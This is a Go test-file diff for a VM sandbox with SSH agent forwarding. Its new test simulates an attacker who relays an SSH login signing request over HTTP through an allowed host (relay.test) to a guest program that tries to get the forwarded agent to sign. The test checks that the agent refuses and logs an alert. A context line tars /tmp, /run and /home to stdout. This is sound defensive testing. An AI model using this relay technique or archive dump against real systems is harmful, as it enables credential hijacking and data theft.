@@ -14,6 +14,8 @@ import (
 	"io"
 	"io/fs"
 	"net"
+	"net/http"
+	"net/http/httptest"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -150,7 +152,8 @@ echo TAR-BEGIN; tar cf - /tmp /run /home 2>/dev/null || true; echo; echo TAR-END
 		}
 	}
 	if len(signs) != 1 || signs[0]["decision"] != "allow" || signs[0]["user"] != "git" || signs[0]["key"] != deploy.fingerprint ||
-		signs[0]["session_id"] == "" || signs[0]["time"] == nil {
+		signs[0]["session_id"] == "" || signs[0]["time"] == nil || signs[0]["server"] != "gitserver.test:22" ||
+		signs[0]["server_host_key"] != srv.hostKey {
 		t.Errorf("signatures logged: %v", signs)
 	}
 	if net := readSessionFile(t, c, "network.jsonl"); !strings.Contains(net, `"name":"gitserver.test","port":22`) || !strings.Contains(net, "spliced") {
@@ -235,6 +238,133 @@ func TestGitPushSSHAgentDetachedVM(t *testing.T) {
 		t.Errorf("%d signatures logged, want 2", n)
 	}
 	c.assertNothingLeft(t)
+}
+
+// TestSSHAgentRelayedLoginVM is issue 18 item 9 the way an attacker does
+// it: an SSH client outside the VM logs in to a real SSH server (the
+// loopback git server) on its own connection and relays the login request
+// it must sign, through an allowed HTTP name (relay.test:80; no :22 rule),
+// to a program in the guest that has the forwarded agent sign it. The agent
+// refuses (no SSH connection carried by the host has that session id), the
+// refusal is an alert in ssh_agent.jsonl, and the outsider does not log in.
+func TestSSHAgentRelayedLoginVM(t *testing.T) {
+	c, bin := guestImageHome(t)
+	deploy := readDeployKey(t, c.home)
+	bare := filepath.Join(t.TempDir(), "repo.git")
+	gitCmd(t, "", "init", "-q", "--bare", bare)
+	srv := newGitServer(t, deploy.pub, bare)
+
+	// The outsider's relay: /req hands the guest what to sign, /sig and
+	// /err bring back the agent's answer.
+	toSign := make(chan []byte, 1)
+	answer := make(chan relayAnswer, 1)
+	mux := http.NewServeMux()
+	mux.HandleFunc("/req", func(w http.ResponseWriter, r *http.Request) {
+		select {
+		case d := <-toSign:
+			w.Write(d)
+		case <-r.Context().Done():
+		}
+	})
+	mux.HandleFunc("/sig", func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		answer <- relayAnswer{sig: b}
+	})
+	mux.HandleFunc("/err", func(w http.ResponseWriter, r *http.Request) {
+		b, _ := io.ReadAll(r.Body)
+		answer <- relayAnswer{err: errors.New(string(b))}
+	})
+	relay := httptest.NewServer(mux)
+	defer relay.Close()
+	_, relayPort, _ := net.SplitHostPort(relay.Listener.Addr().String())
+
+	outsider := make(chan error, 1)
+	go func() {
+		cl, err := ssh.Dial("tcp", "127.0.0.1:"+srv.port, &ssh.ClientConfig{
+			User:            "git",
+			Auth:            []ssh.AuthMethod{ssh.PublicKeys(relaySigner{pub: deploy.pub, toSign: toSign, answer: answer})},
+			HostKeyCallback: ssh.InsecureIgnoreHostKey(),
+		})
+		if err == nil {
+			cl.Close()
+		}
+		outsider <- err
+	}()
+
+	ws := sampleWorkspace(t)
+	build := exec.Command("go", "build", "-o", filepath.Join(ws, ".agentrelay"), "./testdata/agentrelay")
+	build.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH="+runtime.GOARCH)
+	if out, err := build.CombinedOutput(); err != nil {
+		t.Fatalf("build agentrelay: %v\n%s", err, out)
+	}
+	stdout, stderr, code := c.runWith(t, bin, "", "run", ws, "--ssh-agent", "--no-review", "--preflight=off", "--memory", "512M",
+		"--allow", "relay.test:80", "--resolve", "relay.test:80:127.0.0.1:"+relayPort,
+		"--", "sh", "-c", "RELAY_URL=http://relay.test /work/.agentrelay")
+	t.Logf("guest (exit %d):\n%s", code, stdout)
+	select {
+	case answer <- relayAnswer{err: errors.New("the guest gave no answer")}:
+	default:
+	}
+	select {
+	case err := <-outsider:
+		if err == nil {
+			t.Errorf("the outsider logged in as the deploy key with a signature relayed from the guest")
+		}
+	case <-time.After(2 * time.Minute):
+		t.Fatal("the outsider's login did not end")
+	}
+	if n := srv.logins(); n != 0 {
+		t.Errorf("%d logins to the SSH server", n)
+	}
+	if !strings.Contains(stdout, "agent refused") {
+		t.Errorf("the guest's agent request was not refused:\n%s\nstderr:\n%s", stdout, stderr)
+	}
+	var refusals int
+	for _, line := range strings.Split(strings.TrimSpace(readSessionFile(t, c, "ssh_agent.jsonl")), "\n") {
+		var e map[string]any
+		if json.Unmarshal([]byte(line), &e) != nil {
+			t.Errorf("agent log line %q", line)
+			continue
+		}
+		if e["op"] != "sign" {
+			continue
+		}
+		if e["decision"] != "deny" || e["alert"] != true || !strings.Contains(fmt.Sprint(e["reason"]), "no SSH connection") {
+			t.Errorf("agent log: %s", line)
+		}
+		refusals++
+	}
+	if refusals != 1 {
+		t.Errorf("%d refused signatures logged, want 1", refusals)
+	}
+	c.assertNothingLeft(t)
+}
+
+type relayAnswer struct {
+	sig []byte
+	err error
+}
+
+// relaySigner is the outsider's key: it has the guest sign.
+type relaySigner struct {
+	pub    ssh.PublicKey
+	toSign chan<- []byte
+	answer <-chan relayAnswer
+}
+
+func (r relaySigner) PublicKey() ssh.PublicKey { return r.pub }
+
+func (r relaySigner) Sign(_ io.Reader, data []byte) (*ssh.Signature, error) {
+	r.toSign <- data
+	a := <-r.answer
+	if a.err != nil {
+		return nil, a.err
+	}
+	var sig ssh.Signature
+	if err := ssh.Unmarshal(a.sig, &sig); err != nil {
+		return nil, err
+	}
+	return &sig, nil
 }
 
 type deployKey struct {
